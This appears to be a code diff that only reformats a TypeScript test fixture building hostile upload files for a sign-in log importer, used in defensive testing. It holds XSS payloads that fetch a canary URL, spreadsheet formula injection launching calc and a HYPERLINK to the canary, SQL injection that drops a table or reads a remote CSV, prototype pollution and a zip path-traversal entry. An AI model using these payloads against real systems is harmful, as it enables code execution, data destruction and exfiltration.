@@ -38,11 +38,18 @@ export function hostileFiles(canary: string): readonly HostileFile[] {
   const script = `<img src=x onerror="fetch('${canary}/xss')"><script>globalThis.pwned=1;fetch('${canary}/script')</script>`;
   const text = (value: unknown) => strToU8(JSON.stringify(value));
   const scripted = signIn(1, { userAgent: script, userDisplayName: script, appDisplayName: `${script}{@html 1}` });
-  const formula = signIn(2, { appDisplayName: `=cmd|'/c calc'!A0`, userAgent: `@SUM(1+1)*cmd|' /C calc'!A0`, userDisplayName: `+HYPERLINK("${canary}/f")` });
+  const formula = signIn(2, {
+    appDisplayName: `=cmd|'/c calc'!A0`,
+    userAgent: `@SUM(1+1)*cmd|' /C calc'!A0`,
+    userDisplayName: `+HYPERLINK("${canary}/f")`,
+  });
   const polluted = `[${JSON.stringify(signIn(3, {})).slice(0, -1)},"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}]`;
   const huge = signIn(4, { userAgent: 'A'.repeat(10 * 1024 * 1024) });
   const surrogate = `[${JSON.stringify(signIn(5, {})).replace('"Alex"', '"\\ud800 lone"')}]`;
-  const sql = signIn(6, { appDisplayName: `'; drop table events; -- `, userAgent: `"; select * from read_csv('${canary}/csv'); --` });
+  const sql = signIn(6, {
+    appDisplayName: `'; drop table events; -- `,
+    userAgent: `"; select * from read_csv('${canary}/csv'); --`,
+  });
   const good = gzipSync(text(Array.from({ length: 200 }, (_, i) => signIn(100 + i, { userAgent: `agent ${i}` }))));
   const inner = zipSync({ 'inner.json': text([signIn(7, {})]) });
   return [
@@ -55,7 +62,11 @@ export function hostileFiles(canary: string): readonly HostileFile[] {
     { name: `${script.replaceAll('/', '_')}.json`.slice(0, 120), bytes: text([signIn(8, {})]), events: 1 },
     { name: 'broken.json.gz', bytes: good.subarray(0, Math.floor(good.length / 2)), events: 0, says: /gzip/i },
     { name: 'report.json', bytes: strToU8('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'), events: 0, says: /PDF/ },
-    { name: 'nested.zip', bytes: zipSync({ 'a/nested.zip': inner, '../escape.json': text([signIn(9, {})]) }), events: 2 },
+    {
+      name: 'nested.zip',
+      bytes: zipSync({ 'a/nested.zip': inner, '../escape.json': text([signIn(9, {})]) }),
+      events: 2,
+    },
     { name: 'empty.csv', bytes: new Uint8Array(0), events: 0, says: /empty/ },
   ];
 }
